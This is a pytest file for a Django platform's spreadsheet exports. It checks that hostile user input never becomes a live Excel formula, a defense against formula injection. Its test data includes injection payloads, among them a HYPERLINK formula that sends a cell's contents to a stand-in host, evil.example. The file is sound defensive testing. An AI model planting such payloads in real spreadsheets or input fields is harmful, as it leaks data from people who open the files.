"""No workbook the platform writes holds a live formula (OWASP CSV injection), whatever users
typed: a hostile row registered through the services, then every export — each Resource list,
the ledger (web and ``renda export_ledger``), the ledger template, the statistics workbook and the
background list export — opened with openpyxl has no formula cell, and its sheet XML no ``<f>``.

The rule itself (``core.export``): formula-like text — after leading whitespace or control
characters, ``= + - @`` or full-width ``＝＋－＠`` — is a text cell, its text unchanged;
characters XML cannot hold are removed; numbers and dates stay typed."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from tests.support import World

from renda.core import jobs as core_jobs
from renda.core.export import is_formula_text, put, write_sheet
from renda.core.privacy import PersonalData
from renda.core.roles import Role
from renda.core.tests.test_export_matches_page import RESOURCES
from renda.ledger import template as ledger_template
from renda.petitions import services as petitions
from renda.risks import services as risks
from renda.suggestions import exports as suggestion_exports
from renda.suggestions import services as suggestions
from renda.units import services as units

LINK = '=HYPERLINK("http://evil.example/leak?d="&C2,"详情")'
HOSTILE = [LINK, "\t=1+1", "\r=1", "＋1", "@SUM(A1)", "-2+3", "\u200b=1", " ＝1"]


def formula_free(data: bytes) -> list[str]:
    """The workbook's formula cells and sheets with an ``<f>`` element (both empty when safe)."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name)
                if b"<f>" in xml or b"<f " in xml:
                    found.append(name)
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            found += [f"{ws.title}!{c.coordinate}" for c in row if c.data_type == "f"]
    return found


def cell_texts(data: bytes) -> set[str]:
    wb = load_workbook(io.BytesIO(data))
    return {str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None}


def test_the_rule() -> None:
    for text in HOSTILE:
        assert is_formula_text(text), text
    for text in ("普通文字", "a=1", "1-2", "", "  ", "电话 0552-1234567"):
        assert not is_formula_text(text), text
    assert not is_formula_text(-3) and not is_formula_text(None)


def test_write_sheet_and_put_keep_text_exact_and_typed_values_typed() -> None:
    row: list[Any] = [*HOSTILE, "a\x01b\x0bc\x00", 5, -3, 1.5]
    wb = Workbook(write_only=True)
    write_sheet(wb, "表", ["=标题", *(f"列{i}" for i in range(len(row) - 1))], [row])
    buf = io.BytesIO()
    wb.save(buf)
    assert formula_free(buf.getvalue()) == []
    ws = load_workbook(io.BytesIO(buf.getvalue()))["表"]
    assert ws["A1"].value == "=标题"
    assert [c.value for c in ws[2]] == [*HOSTILE, "abc", 5, -3, 1.5]
    assert [c.data_type for c in ws[2]][-3:] == ["n", "n", "n"]

    wb2 = Workbook()
    ws2 = wb2.active
    assert ws2 is not None
    for col, value in enumerate(row, start=1):
        put(ws2, 1, col, value)
    buf = io.BytesIO()
    wb2.save(buf)
    assert formula_free(buf.getvalue()) == []
    first_row = load_workbook(io.BytesIO(buf.getvalue())).worksheets[0][1]
    assert [c.value for c in first_row] == [*HOSTILE, "abc", 5, -3, 1.5]


@pytest.fixture
def hostile(world: World) -> World:
    staff = world.users[Role.STAFF]
    category = suggestions.suggestion_category_create(actor=staff, town=world.town, name="=1+2")
    for i, title in enumerate(HOSTILE):
        suggestions.suggestion_register(actor=staff, town=world.town, kind="public", title=title,
                                        content=f"{LINK}\n第二行{i}", source="visit", submitter_name="@张三",
                                        category=category)
        petitions.petition_register(actor=staff, town=world.town, channel="visit", subject=title,
                                    content=LINK, category="+1", respondent="-1",
                                    petitioners=[PersonalData(name=f"=王五{i}", address=LINK)])
        risks.risk_register(actor=staff, town=world.town, title=title, description=f"{LINK}\x01\x0b",
                            people=[risks.PersonIn(name="＝赵六", role="@当事人")])
    units.unit_create(actor=staff, town=world.town, name="=HYPERLINK(\"http://evil.example\")", kind="town_department",
                      contact_person="+李四")
    return world


def _exporter(world: World, resource: Any) -> Any:
    for role in (Role.STAFF, Role.DISTRICT_VIEWER, Role.ADMIN):
        if resource.can(world.users[role], "export", None):
            return world.users[role]
    return None


def test_every_export_of_a_hostile_row_holds_no_formula(hostile: World, settings: Any, tmp_path: Any) -> None:
    settings.DATA_DIR = tmp_path
    world = hostile
    staff = Client()
    staff.force_login(world.users[Role.STAFF])
    workbooks: dict[str, bytes] = {}
    for name, resource in RESOURCES.items():
        user = _exporter(world, resource)
        if user is None:
            continue
        client = Client()
        client.force_login(user)
        response = client.get(reverse(f"{name}:list") if _has(f"{name}:list") else _list_url(resource),
                              {"export": "xlsx"})
        assert response.status_code == 200, name
        workbooks[f"list:{name}"] = b"".join(response.streaming_content)  # type: ignore[attr-defined]
    assert {"list:suggestions", "list:petitions", "list:risks", "list:units"} <= set(workbooks)

    workbooks["ledger (web)"] = b"".join(staff.get(reverse("ledger:export")).streaming_content)  # type: ignore[attr-defined]
    path = tmp_path / "ledger.xlsx"
    call_command("export_ledger", str(path), stdout=io.StringIO())
    workbooks["ledger (renda export_ledger)"] = path.read_bytes()
    buf = io.BytesIO()
    ledger_template.write(buf, world.town)
    workbooks["ledger template"] = buf.getvalue()
    workbooks["ledger template (web)"] = staff.get(reverse("ledger:template")).content
    stats = staff.get(reverse("reports:export"))
    assert stats.status_code == 200 and stats["Content-Type"].startswith("application/vnd.openxml")
    workbooks["statistics"] = stats.content
    done = suggestion_exports.export_list.func(world.users[Role.STAFF].pk, "")
    workbooks["background list export"] = (core_jobs.export_dir() / done["file"]).read_bytes()

    for label, data in workbooks.items():
        assert formula_free(data) == [], label
    assert LINK in cell_texts(workbooks["list:suggestions"])
    assert {LINK, "＋1", "@SUM(A1)", "-2+3"} <= cell_texts(workbooks["ledger (web)"])
    assert "=1+2" in " ".join(cell_texts(workbooks["statistics"]))
    assert LINK in cell_texts(workbooks["background list export"])


def _has(name: str) -> bool:
    try:
        reverse(name)
    except Exception:
        return False
    return True


def _list_url(resource: Any) -> str:
    raise AssertionError(f"no list URL for {resource.name}")
